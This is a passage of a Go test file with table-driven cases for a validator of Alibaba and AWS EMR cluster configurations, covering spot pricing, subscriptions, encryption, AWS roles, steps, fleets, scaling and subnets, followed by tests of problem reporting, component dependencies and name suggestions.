		{rule: ruleSpot, name: "aws price limit without price", base: baseAWS, fail: true, path: "nodeGroups[2].spot.bidPrice", mutate: func(c *Cluster) { c.NodeGroups[2].Spot.BidPrice = "" }},

		{rule: ruleCostOptimized, name: "TASK cost optimized", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{ResizeStrategy: ResizeCostOptimized, CompensateWithOnDemand: true,
				CostOptimized: &CostOptimized{OnDemandBaseCapacity: 1, OnDemandPercentageAboveBaseCapacity: 20, SpotInstancePools: 3}})
		}},
		{rule: ruleCostOptimized, name: "settings without the strategy", fail: true, path: "nodeGroups[2].costOptimized", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{CostOptimized: &CostOptimized{SpotInstancePools: 3}})
		}},
		{rule: ruleCostOptimized, name: "percentage above 100", fail: true, path: "nodeGroups[2].costOptimized.onDemandPercentageAboveBaseCapacity", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{ResizeStrategy: ResizeCostOptimized, CostOptimized: &CostOptimized{OnDemandPercentageAboveBaseCapacity: 120}})
		}},

		{rule: ruleDeploymentSet, name: "node group", mutate: func(c *Cluster) { c.NodeGroups[1].DeploymentSetStrategy = "NODE_GROUP" }},
		{rule: ruleDeploymentSet, name: "unknown", fail: true, path: "nodeGroups[1].deploymentSetStrategy", mutate: func(c *Cluster) { c.NodeGroups[1].DeploymentSetStrategy = "RACK" }},

		{rule: rulePrivatePool, name: "open", mutate: func(c *Cluster) { c.NodeGroups[1].PrivatePool = &PrivatePool{MatchCriteria: "Open"} }},
		{rule: rulePrivatePool, name: "target without IDs", fail: true, path: "nodeGroups[1].privatePool.ids", mutate: func(c *Cluster) {
			c.NodeGroups[1].PrivatePool = &PrivatePool{MatchCriteria: "Target"}
		}},

		{rule: ruleNodeGroupPayment, name: "pay-as-you-go TASK in a subscription cluster", base: baseIntegrated, mutate: func(c *Cluster) { c.NodeGroups[2].PaymentType = PaymentPayAsYouGo }},
		{rule: ruleNodeGroupPayment, name: "subscription group in a pay-as-you-go cluster", fail: true, path: "nodeGroups[1].paymentType", mutate: func(c *Cluster) {
			c.NodeGroups[1].PaymentType = PaymentSubscription
		}},
		{rule: ruleNodeGroupPayment, name: "unknown", fail: true, path: "nodeGroups[1].paymentType", mutate: func(c *Cluster) { c.NodeGroups[1].PaymentType = "Monthly" }},

		{rule: rulePayment, name: "subscription", base: baseIntegrated, mutate: func(c *Cluster) {}},
		{rule: rulePayment, name: "missing", fail: true, path: "payment.type", mutate: func(c *Cluster) { c.Payment = nil }},
		{rule: rulePayment, name: "unknown", fail: true, path: "payment.type", mutate: func(c *Cluster) { c.Payment.Type = "Prepaid" }},

		{rule: ruleSubscription, name: "one year", base: baseIntegrated, mutate: func(c *Cluster) { c.Payment.Subscription.Duration, c.Payment.Subscription.Unit = 1, Year }},
		{rule: ruleSubscription, name: "no term", base: baseIntegrated, fail: true, path: "payment.subscription", mutate: func(c *Cluster) { c.Payment.Subscription = nil }},
		{rule: ruleSubscription, name: "ten months", base: baseIntegrated, fail: true, path: "payment.subscription.duration", mutate: func(c *Cluster) { c.Payment.Subscription.Duration = 10 }},
		{rule: ruleSubscription, name: "six years", base: baseIntegrated, fail: true, path: "payment.subscription.duration", mutate: func(c *Cluster) {
			c.Payment.Subscription.Duration, c.Payment.Subscription.Unit = 6, Year
		}},
		{rule: ruleSubscription, name: "auto-renewal without a term", base: baseIntegrated, fail: true, path: "payment.subscription.autoRenewDuration", mutate: func(c *Cluster) {
			c.Payment.Subscription.AutoRenewDuration = 0
		}},

		{rule: ruleSubscriptionAck, name: "twelve months", base: baseIntegrated, mutate: func(c *Cluster) { c.Payment.Subscription.Duration = 12 }},
		{rule: ruleSubscriptionAck, name: "two years", base: baseIntegrated, fail: true, warn: true, path: "payment.subscription.duration", mutate: func(c *Cluster) {
			c.Payment.Subscription.Duration, c.Payment.Subscription.Unit = 2, Year
		}},

		{rule: ruleDeletionProtection, name: "HA protected", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleDeletionProtection, name: "HA unprotected", base: baseHA, fail: true, warn: true, path: "deletionProtection", mutate: func(c *Cluster) { c.DeletionProtection = false }},

		{rule: rulePublicIP, name: "dev master with a public IP", mutate: func(c *Cluster) { c.NodeGroups[0].PublicIP = true }},
		{rule: rulePublicIP, name: "HA master with a public IP", base: baseHA, fail: true, warn: true, path: "nodeGroups[0].publicIp", mutate: func(c *Cluster) { c.NodeGroups[0].PublicIP = true }},

		{rule: ruleDiskEncryption, name: "encrypted with a key", mutate: func(c *Cluster) {
			c.DiskEncryption = &DiskEncryption{DataDisk: true, DataDiskKMSKeyID: "0e478b7a-4262-4802-b8cb-00d3fb408b2c"}
		}},
		{rule: ruleDiskEncryption, name: "key without encryption", fail: true, path: "diskEncryption.dataDiskKmsKeyId", mutate: func(c *Cluster) {
			c.DiskEncryption = &DiskEncryption{DataDiskKMSKeyID: "0e478b7a-4262-4802-b8cb-00d3fb408b2c"}
		}},

		{rule: ruleAWSRoles, name: "role ARN", base: baseAWS, mutate: func(c *Cluster) { c.AWS.ServiceRole = "arn:aws:iam::123456789012:role/EMR_DefaultRole_V2" }},
		{rule: ruleAWSRoles, name: "no service role", base: baseAWS, fail: true, path: "aws.serviceRole", mutate: func(c *Cluster) { c.AWS.ServiceRole = "" }},
		{rule: ruleAWSRoles, name: "no aws block", base: baseAWS, fail: true, path: "aws.jobFlowRole", mutate: func(c *Cluster) { c.AWS = nil }},

		{rule: ruleAWSLogURI, name: "s3 prefix", base: baseAWS, mutate: func(c *Cluster) {}},
		{rule: ruleAWSLogURI, name: "https", base: baseAWS, fail: true, path: "aws.logUri", mutate: func(c *Cluster) { c.AWS.LogURI = "https://example.com/logs/" }},
		{rule: ruleAWSLogURI, name: "missing", base: baseAWS, fail: true, warn: true, path: "aws.logUri", mutate: func(c *Cluster) { c.AWS.LogURI = "" }},

		{rule: ruleAWSInstances, name: "instance fleets", base: baseAWS, mutate: func(c *Cluster) { c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets() }},
		{rule: ruleAWSInstances, name: "groups and fleets", base: baseAWS, fail: true, path: "aws.instanceFleets", mutate: func(c *Cluster) { c.AWS.InstanceFleets = validFleets() }},
		{rule: ruleAWSInstances, name: "neither", base: baseAWS, fail: true, path: "nodeGroups", mutate: func(c *Cluster) { c.NodeGroups = nil }},
		{rule: ruleAWSInstances, name: "no MASTER", base: baseAWS, fail: true, path: "nodeGroups", mutate: func(c *Cluster) { c.NodeGroups = c.NodeGroups[1:] }},
		{rule: ruleAWSInstances, name: "Alibaba role", base: baseAWS, fail: true, path: "nodeGroups[2].role", mutate: func(c *Cluster) { c.NodeGroups[2].Role = RoleGateway }},
		{rule: ruleAWSInstances, name: "two instance types", base: baseAWS, fail: true, path: "nodeGroups[1].instanceTypes", mutate: func(c *Cluster) {
			c.NodeGroups[1].InstanceTypes = []string{"m5.xlarge", "m5.2xlarge"}
		}},

		{rule: ruleAWSApplications, name: "Hive and Tez", base: baseAWS, mutate: func(c *Cluster) { c.Applications = append(c.Applications, "Hive", "Tez") }},
		{rule: ruleAWSApplications, name: "Alibaba name", base: baseAWS, fail: true, path: "applications[2]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "SPARK3") }},
		{rule: ruleAWSApplications, name: "misspelt", base: baseAWS, fail: true, path: "applications[2]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "Zepelin") }},

		{rule: ruleAWSSteps, name: "hive and pyspark", base: baseAWS, mutate: func(c *Cluster) {
			c.AWS.Steps = append(c.AWS.Steps,
				AWSStep{Name: "transform", Type: StepHive, ActionOnFailure: "CONTINUE", Script: "s3://my-bucket/scripts/transform.q"},
				AWSStep{Name: "score", Type: StepPySpark, ActionOnFailure: "CANCEL_AND_WAIT", Script: "s3://my-bucket/scripts/score.py", Args: []string{"--input", "s3://b/in/"}})
		}},
		{rule: ruleAWSSteps, name: "spark without jar", base: baseAWS, fail: true, path: "aws.steps[0].jar", mutate: func(c *Cluster) { c.AWS.Steps[0].Jar = "" }},
		{rule: ruleAWSSteps, name: "code from a URL", base: baseAWS, fail: true, path: "aws.steps[0].jar", mutate: func(c *Cluster) { c.AWS.Steps[0].Jar = "https://example.com/x.jar" }},
		{rule: ruleAWSSteps, name: "field of another type", base: baseAWS, fail: true, path: "aws.steps[0].script", mutate: func(c *Cluster) { c.AWS.Steps[0].Script = "s3://b/x.py" }},
		{rule: ruleAWSSteps, name: "unknown action", base: baseAWS, fail: true, path: "aws.steps[0].actionOnFailure", mutate: func(c *Cluster) { c.AWS.Steps[0].ActionOnFailure = "STOP" }},
		{rule: ruleAWSSteps, name: "command step", base: baseAWS, fail: true, warn: true, path: "aws.steps[1].type", mutate: func(c *Cluster) {
			c.AWS.Steps = append(c.AWS.Steps, AWSStep{Name: "copy", Type: StepCommand, ActionOnFailure: "CONTINUE", Command: "s3-dist-cp", Args: []string{"--src", "s3://b/a/", "--dest", "hdfs:///a/"}})
		}},

		{rule: ruleAWSFleets, name: "master and core", base: baseAWS, mutate: func(c *Cluster) { c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets() }},
		{rule: ruleAWSFleets, name: "master of two", base: baseAWS, fail: true, path: "aws.instanceFleets[0]", mutate: func(c *Cluster) {
			c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets()
			c.AWS.InstanceFleets[0].TargetOnDemandCapacity = 2
		}},
		{rule: ruleAWSFleets, name: "two bid prices", base: baseAWS, fail: true, path: "aws.instanceFleets[1].instanceTypeConfigs[0]", mutate: func(c *Cluster) {
			c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets()
			c.AWS.InstanceFleets[1].InstanceTypeConfigs[0].BidPriceAsPercentageOfOnDemandPrice = 50
		}},
		{rule: ruleAWSFleets, name: "no instance types", base: baseAWS, fail: true, path: "aws.instanceFleets[1].instanceTypeConfigs", mutate: func(c *Cluster) {
			c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets()
			c.AWS.InstanceFleets[1].InstanceTypeConfigs = nil
		}},

		{rule: ruleAWSManagedScaling, name: "within limits", base: baseAWS, mutate: func(c *Cluster) {
			c.AWS.ManagedScaling = &AWSManagedScaling{MinimumCapacityUnits: 3, MaximumCapacityUnits: 20, MaximumOnDemandCapacityUnits: 5, MaximumCoreCapacityUnits: 3, UnitType: "Instances"}
		}},
		{rule: ruleAWSManagedScaling, name: "above the policy maximum", base: baseAWS, fail: true, path: "aws.managedScaling.maximumCapacityUnits", mutate: func(c *Cluster) {
			c.AWS.ManagedScaling = &AWSManagedScaling{MinimumCapacityUnits: 3, MaximumCapacityUnits: 200, UnitType: "Instances"}
		}},
		{rule: ruleAWSManagedScaling, name: "maximum below minimum", base: baseAWS, fail: true, path: "aws.managedScaling.maximumCapacityUnits", mutate: func(c *Cluster) {
			c.AWS.ManagedScaling = &AWSManagedScaling{MinimumCapacityUnits: 5, MaximumCapacityUnits: 2, UnitType: "Instances"}
		}},
		{rule: ruleAWSManagedScaling, name: "fleet units without fleets", base: baseAWS, fail: true, path: "aws.managedScaling.unitType", mutate: func(c *Cluster) {
			c.AWS.ManagedScaling = &AWSManagedScaling{MinimumCapacityUnits: 1, MaximumCapacityUnits: 2, UnitType: "InstanceFleetUnits"}
		}},

		{rule: ruleAWSIdleTimeout, name: "one hour", base: baseAWS, mutate: func(c *Cluster) { c.AWS.AutoTerminationIdleTimeout = "1h" }},
		{rule: ruleAWSIdleTimeout, name: "thirty seconds", base: baseAWS, fail: true, path: "aws.autoTerminationIdleTimeout", mutate: func(c *Cluster) { c.AWS.AutoTerminationIdleTimeout = "30s" }},
		{rule: ruleAWSIdleTimeout, name: "not a duration", base: baseAWS, fail: true, path: "aws.autoTerminationIdleTimeout", mutate: func(c *Cluster) { c.AWS.AutoTerminationIdleTimeout = "two days" }},

		{rule: ruleAWSStepConcurrency, name: "ten", base: baseAWS, mutate: func(c *Cluster) { c.AWS.StepConcurrencyLevel = 10 }},
		{rule: ruleAWSStepConcurrency, name: "too many", base: baseAWS, fail: true, path: "aws.stepConcurrencyLevel", mutate: func(c *Cluster) { c.AWS.StepConcurrencyLevel = 300 }},

		{rule: ruleAWSSubnet, name: "subnets for fleets", base: baseAWS, mutate: func(c *Cluster) {
			c.NodeGroups, c.AWS.InstanceFleets = nil, validFleets()
			c.AWS.EC2SubnetID, c.AWS.EC2SubnetIDs = "", []string{"subnet-0abc1234def567890", "subnet-0abc1234def567891"}
		}},
		{rule: ruleAWSSubnet, name: "not a subnet ID", base: baseAWS, fail: true, path: "aws.ec2SubnetId", mutate: func(c *Cluster) { c.AWS.EC2SubnetID = "subnet-XYZ" }},
		{rule: ruleAWSSubnet, name: "several subnets with instance groups", base: baseAWS, fail: true, path: "aws.ec2SubnetIds", mutate: func(c *Cluster) {
			c.AWS.EC2SubnetID, c.AWS.EC2SubnetIDs = "", []string{"subnet-0abc1234def567890"}
		}},

		{rule: ruleAWSConfigurations, name: "nested", base: baseAWS, mutate: func(c *Cluster) {
			c.AWS.Configurations = append(c.AWS.Configurations, AWSConfiguration{Classification: "hadoop-env",
				Configurations: []AWSConfiguration{{Classification: "export", Properties: map[string]string{"JAVA_HOME": "/usr/lib/jvm/java-17"}}}})
		}},
		{rule: ruleAWSConfigurations, name: "no classification", base: baseAWS, fail: true, path: "aws.configurations[0].classification", mutate: func(c *Cluster) {
			c.AWS.Configurations[0].Classification = ""
		}},

		{rule: ruleAWSKeepAlive, name: "transient with steps", base: baseAWS, mutate: func(c *Cluster) { c.AWS.KeepAlive = ptr(false) }},
		{rule: ruleAWSKeepAlive, name: "transient without steps", base: baseAWS, fail: true, warn: true, path: "aws.keepAlive", mutate: func(c *Cluster) {
			c.AWS.KeepAlive, c.AWS.Steps = ptr(false), nil
		}},
	}
}

func TestValidateRules(t *testing.T) {
	for _, tt := range ruleCases() {
		verdict := "passes"
		if tt.fail {
			verdict = "fails"
		}
		t.Run(fmt.Sprintf("%s/%s %s", tt.rule, verdict, tt.name), func(t *testing.T) {
			base := tt.base
			if base == "" {
				base = baseDev
			}
			c := defaulted(t, base)
			tt.mutate(c)
			ps := Validate(c, tt.opts)
			var hits Problems
			for _, p := range ps {
				if p.Rule == tt.rule {
					hits = append(hits, p)
				}
			}
			if !tt.fail {
				if len(hits) > 0 {
					t.Fatalf("got %s problems:\n%s\nwant none", tt.rule, hits)
				}
				return
			}
			if len(hits) == 0 {
				t.Fatalf("got no %s problem, want one; all problems:\n%s", tt.rule, ps)
			}
			wantSev := Error
			if tt.warn {
				wantSev = Warning
			}
			found := slices.ContainsFunc(hits, func(p Problem) bool {
				return p.Severity == wantSev && (tt.path == "" || p.Path == tt.path)
			})
			if !found {
				t.Errorf("got %s problems:\n%s\nwant a %s at path %q", tt.rule, hits, wantSev, tt.path)
			}
			for _, p := range hits {
				if p.Message == "" || p.Fix == "" {
					t.Errorf("problem %+v: got empty message or fix, want both", p)
				}
			}
		})
	}
}

// TestEveryRuleHasCases keeps the table honest: each rule of Rules has a
// passing and a failing case, and the table names no unknown rule.
func TestEveryRuleHasCases(t *testing.T) {
	pass, fail := map[string]bool{}, map[string]bool{}
	known := map[string]bool{}
	for _, r := range Rules() {
		known[r.ID] = true
	}
	for _, c := range ruleCases() {
		if !known[c.rule] {
			t.Errorf("case %q: rule %q is not in Rules()", c.name, c.rule)
		}
		if c.fail {
			fail[c.rule] = true
		} else {
			pass[c.rule] = true
		}
	}
	for _, r := range Rules() {
		if !pass[r.ID] {
			t.Errorf("rule %s: got no passing case, want one", r.ID)
		}
		if !fail[r.ID] {
			t.Errorf("rule %s: got no failing case, want one", r.ID)
		}
	}
}

func TestValidateReportsEveryProblemAtOnce(t *testing.T) {
	c := defaulted(t, baseDev)
	c.Name = "bad name!"
	c.ReleaseVersion = "5.21"
	c.Tags = map[string]string{"acs:owner": "x"}
	c.Network.SecurityGroupID = ""
	c.NodeGroups[1].VSwitchIDs = nil
	ps := Validate(c, ValidateOptions{})
	got := make([]string, len(ps))
	for i, p := range ps {
		got[i] = p.Rule + " " + p.Path
	}
	want := []string{
		"name name",
		"tags tags",
		"release-version releaseVersion",
		"network network.securityGroupId",
		"vswitch-required nodeGroups[1].vSwitchIds",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("problems mismatch (-want +got):\n%s\n%s", diff, ps)
	}
	if got := len(ps.Errors()); got != 5 {
		t.Errorf("Errors(): got %d, want 5", got)
	}
}

func TestTransitiveDependencies(t *testing.T) {
	got := map[string][]string{}
	for _, m := range missingDependencies([]string{"KYUUBI"}) {
		got[strings.Join(m.choice, "|")] = m.neededBy
	}
	want := map[string][]string{
		"SPARK3":        {"KYUUBI"},
		"ZOOKEEPER":     {"KYUUBI", "YARN (needed by KYUUBI)", "HIVE (needed by KYUUBI)"},
		"OPENLDAP":      {"KYUUBI"},
		"YARN":          {"SPARK3 (needed by KYUUBI)", "HIVE (needed by KYUUBI)"},
		"HDFS|OSS-HDFS": {"SPARK3 (needed by KYUUBI)", "YARN (needed by KYUUBI)", "HIVE (needed by KYUUBI)"},
		"HIVE":          {"SPARK3 (needed by KYUUBI)"},
		"HADOOP-COMMON": {"YARN (needed by KYUUBI)", "HDFS|OSS-HDFS (needed by KYUUBI)"},
		"MYSQL":         {"HIVE (needed by KYUUBI)"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("missing dependencies of KYUUBI mismatch (-want +got):\n%s", diff)
	}
	if m := missingDependencies([]string{"HADOOP-COMMON", "OSS-HDFS", "YARN", "ZOOKEEPER"}); len(m) != 0 {
		t.Errorf("OSS-HDFS stack: got missing %+v, want none", m)
	}
}

func TestSuggestions(t *testing.T) {
	tests := []struct {
		name, value string
		known       []string
		want        string
	}{
		{"case", "spark3", allComponents(), "SPARK3"},
		{"prefix", "HADOOP", allComponents(), "HADOOP-COMMON"},
		{"typo", "ZOOKEPER", allComponents(), "ZOOKEEPER"},
		{"no separator", "OSSHDFS", allComponents(), "OSS-HDFS"},
		{"stranger", "KAFKA", allComponents(), ""},
		{"enum", "datalake", ClusterType("").Values(), "DATALAKE"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := suggestName(tt.value, tt.known); got != tt.want {
				t.Errorf("suggestName(%q): got %q, want %q", tt.value, got, tt.want)
			}
		})
	}
}

func TestProblemsBySeverity(t *testing.T) {
	ps := Problems{{Path: "x", Message: "m", Severity: Warning, Rule: "core-count"}, {Path: "y", Message: "n", Severity: Error, Rule: "name"}}
	if got := ps.Errors(); len(got) != 1 || got[0].Path != "y" {
		t.Errorf("Errors(): got %+v, want the error only", got)
	}
	if got := ps.Warnings(); len(got) != 1 || got[0].Path != "x" {
		t.Errorf("Warnings(): got %+v, want the warning only", got)
	}
}

func TestValidateNil(t *testing.T) {
	if ps := Validate(nil, ValidateOptions{}); len(ps.Errors()) == 0 {
		t.Errorf("Validate(nil): got no error, want one")
	}
}
